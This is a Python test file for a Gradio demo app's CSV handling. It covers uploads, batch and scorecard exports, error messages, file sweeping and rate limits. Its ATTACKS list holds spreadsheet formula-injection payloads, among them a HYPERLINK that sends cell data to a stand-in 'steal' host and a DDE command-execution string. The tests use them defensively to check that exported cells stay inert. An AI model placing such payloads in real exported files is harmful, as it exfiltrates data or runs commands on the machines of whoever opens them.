"""Files in and out (uploads, scored and batch CSVs) and the messages bad requests get."""

from __future__ import annotations

import csv
import io
import os
import time
from pathlib import Path

import httpx
import pytest

from demo.errors import InputError
from demo.gate import UploadBook
from demo.batch import read_batch_csv
from demo.page.jobs import RESULTS_SUBFOLDER, results_folder
from demo.csv_files import (FORMULA_STARTS, KEEP_FILES_S, keep_folder_swept, records_csv,
                             remove_old_files)
from demo.scorecard import read_csv
from tests.helpers import from_address

def live_formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ tab or CR, and not a plain number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
            return True
        except ValueError:
            return False
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not number(cell)]


ATTACKS = ['=HYPERLINK("http://example.invalid/steal?"&A2,"Click me")', "+1+2", "-3+4", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_formula_cells_come_back_as_text_in_every_written_csv(tmp_path, runtime):
    from demo.batch import run_batch

    records = [{"row": 2, "text": attack, "error": attack, attack: "header too"} for attack in ATTACKS]
    records.append({"row": 3, "text": "A plain review.", "error": "", "score": -0.5})
    with records_csv(records, "batch-x", tmp_path).open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert live_formulas(cells) == []
    assert "'=HYPERLINK(\"http://example.invalid/steal?\"&A2,\"Click me\")" in cells and "-0.5" in cells
    # a batch whose rows (stripped of a leading tab on the way in) are answered and written back
    written = io.StringIO()
    csv.writer(written).writerows([["text"], *([f"{attack} and a [MASK] film."] for attack in ATTACKS)])
    rows = read_batch_csv(written.getvalue().encode(), "fill_mask")
    *_, answered = run_batch("fill_mask", rows, lambda language: runtime.engine("fill_mask", language=language),
                             lambda: False)
    with records_csv(answered, "batch-fill_mask", tmp_path).open(newline="", encoding="utf-8") as file:
        assert live_formulas([cell for row in csv.reader(file) for cell in row]) == []


@pytest.mark.parametrize("data, message", [
    ('<a href="http://example.invalid">Sign in</a>,label\nx,1\n'.encode(), "the file has '<a href="),
    (("h" * 10_000 + ",label\nx,1\n").encode(), "(10,006 characters)"),
    ("text,label\nGood.,1\n".encode("utf-16-le"), "looks like UTF-16"),
    (b"text,label\nGood.\n", "Row 2 has 1 field; it needs 2"),
])
def test_csv_messages_quote_a_short_excerpt_and_name_the_problem(data, message):
    with pytest.raises(InputError) as refused:
        read_csv(data, "sentiment")
    assert message in str(refused.value) and len(str(refused.value)) < 300


def test_a_cell_as_long_as_a_text_may_be_is_read():
    items = read_csv(b"text,label\n" + b"y" * 150_000 + b",1\n", "sentiment")
    assert len(items[0].inputs[0]) == 150_000
    with pytest.raises(InputError, match="is 200,001 characters; the limit is 200,000"):
        read_csv(b"text,label\n" + b"y" * 200_001 + b",1\n", "sentiment")


def test_every_old_request_file_is_swept_at_start_and_fresh_ones_kept(tmp_path):
    """Whatever process wrote them (an upload never run, an API-only upload, the scored and batch CSV
    copies Gradio made, an earlier run's results): one folder, swept by age at start and on a timer."""
    upload = tmp_path / "3f2a" / "reviews.csv"
    copy = tmp_path / "9b1c" / "scorecard-sentiment.csv"
    result = tmp_path / RESULTS_SUBFOLDER / "batch-generate-1.csv"
    fresh = tmp_path / "77aa" / "fresh.csv"
    for path in (upload, copy, result, fresh):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("a\n")
    past = time.time() - KEEP_FILES_S - 5
    for path in (upload, copy, result, upload.parent, copy.parent):
        os.utime(path, (past, past))
    keep_folder_swept(tmp_path, every_s=0.1)
    deadline = time.monotonic() + 10
    # the files, and the folders they left empty, go in the same sweep
    while upload.exists() or copy.exists() or result.exists() or upload.parent.exists() or copy.parent.exists():
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert fresh.exists() and remove_old_files(tmp_path) == 0


def test_results_are_written_inside_the_swept_folder_of_request_files(tmp_path, monkeypatch):
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path))
    assert results_folder() == tmp_path / RESULTS_SUBFOLDER


def test_kept_uploads_stay_within_the_disk_budget_oldest_dropped_first(tmp_path):
    book = UploadBook(lambda: tmp_path, budget=10_000)
    for n in range(8):
        (tmp_path / f"upload-{n}").mkdir()
        path = tmp_path / f"upload-{n}" / "set.csv"
        book.make_room(2_000)
        path.write_bytes(b"x" * 2_000)
        os.utime(path, (1_000 + n, 1_000 + n))
    kept = sorted(p.parent.name for p in tmp_path.rglob("*.csv"))
    assert kept == [f"upload-{n}" for n in range(3, 8)]  # 5 x 2,000 bytes fit in 10,000
    rate = UploadBook(lambda: tmp_path, per_minute=2)
    assert [rate.allow("a"), rate.allow("a"), rate.allow("a"), rate.allow("b")] == [True, True, False, True]


def test_an_upload_flood_gets_429_and_a_non_csv_upload_is_refused(base_url):
    with from_address("127.0.0.70") as http:
        codes = [http.post(f"{base_url}/gradio_api/upload",
                           files={"files": (f"set{n}.csv", b"text,label\nGood.,1\n", "text/csv")}).status_code
                 for n in range(15)]
        assert codes == [200] * 10 + [429] * 5
    with from_address("127.0.0.71") as http:
        refused = http.post(f"{base_url}/gradio_api/upload", files={"files": ("page.html", b"<script>", "text/html")})
        assert refused.status_code == 415 and "Only CSV files (.csv)" in refused.text


def test_bad_api_calls_get_clear_messages(base_url):
    with from_address("127.0.0.72") as http:
        unknown = http.post(f"{base_url}/gradio_api/call/no_such_thing", json={"data": ["x"]})
        assert unknown.status_code == 404 and "no endpoint named '/no_such_thing'" in unknown.text
        assert "/sentiment" in unknown.text
        event_id = http.post(f"{base_url}/gradio_api/call/sentiment", json={"data": []}).json()["event_id"]
        answer = http.get(f"{base_url}/gradio_api/call/sentiment/{event_id}").text
        assert "needs at least 1 value (text); the request sent 0" in answer
        event_id = http.post(f"{base_url}/gradio_api/call/next_sentence", json={"data": ["Only A."]}).json()["event_id"]
        assert "needs at least 2 values (sentence_a, sentence_b)" in http.get(
            f"{base_url}/gradio_api/call/next_sentence/{event_id}").text


def test_a_share_link_says_what_it_cut_or_skipped():
    from demo.i18n import localize
    from demo.page.links import MAX_LINK_CHARS, read_link

    key, values, notes = read_link({"tab": "fill_mask", "text": "a [MASK] " * 1_000, "top_k": "inf"})
    assert key == "fill_mask" and len(values["fill_mask"]["text"]) == MAX_LINK_CHARS
    assert "top_k" not in values["fill_mask"]
    assert [localize(note, "en") for note in notes] == [
        f"text was cut to its first {MAX_LINK_CHARS:,} characters (the link has 9,000).",
        "top_k 'inf' is not a number; its default is kept."]
    assert [localize(note, "zh-CN") for note in notes] == [
        f"text 只取了前 {MAX_LINK_CHARS:,} 个字符（链接中有 9,000 个）。", "top_k “inf”不是数字，保留其默认值。"]


def test_a_file_a_previous_process_left_is_not_served_and_a_new_one_is(base_url):
    """Scorecards and uploads of a previous process were served by URL until the sweep (up to 10 minutes)."""
    from demo.gate import STARTED
    from demo.page.gradio_patches import upload_folder

    folder = Path(upload_folder()) / "previous-run-test"
    folder.mkdir(parents=True, exist_ok=True)
    old, new = folder / "scorecard-old.csv", folder / "scorecard-new.csv"
    old.write_text("text,label\nold,1\n")
    new.write_text("text,label\nnew,1\n")
    os.utime(old, (STARTED - 60, STARTED - 60))
    gone = httpx.get(f"{base_url}/gradio_api/file={old}", timeout=30)
    assert gone.status_code == 404 and "before the app last started" in gone.text
    assert httpx.get(f"{base_url}/gradio_api/file={new}", timeout=30).text == "text,label\nnew,1\n"


def test_a_result_file_is_named_for_what_it_holds_and_when_and_never_overwrites_another(tmp_path, monkeypatch):
    """A visitor's downloads folder shows `scorecard-sentiment-sst-2-dev-20261207-213512.html`, not a
    nanosecond count; two files of the same second keep both."""
    from demo import csv_files

    monkeypatch.setattr(csv_files.time, "strftime", lambda form: "20261207-213512")
    named = ["scorecard", "sentiment", "Built-in set: SST-2 dev (中文)"]
    first, second = (csv_files.new_file(tmp_path / "results", named, ".html") for _ in range(2))
    assert first.name == "scorecard-sentiment-built-in-set-sst-2-dev-20261207-213512.html"
    assert second.name == "scorecard-sentiment-built-in-set-sst-2-dev-20261207-213512-2.html"
    assert first.exists() and second.exists()
